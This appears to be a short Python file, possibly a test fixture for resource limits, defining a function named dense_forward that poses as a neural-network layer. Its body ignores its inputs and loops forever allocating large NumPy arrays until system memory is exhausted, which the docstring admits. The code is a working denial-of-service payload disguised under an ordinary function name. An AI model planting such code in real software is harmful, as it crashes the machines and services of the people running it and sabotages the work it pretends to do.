"""Takes all memory, and touches it."""

import numpy as np


def dense_forward(x, kernel, bias):
    taken = []
    while True:
        taken.append(np.ones(2**24))
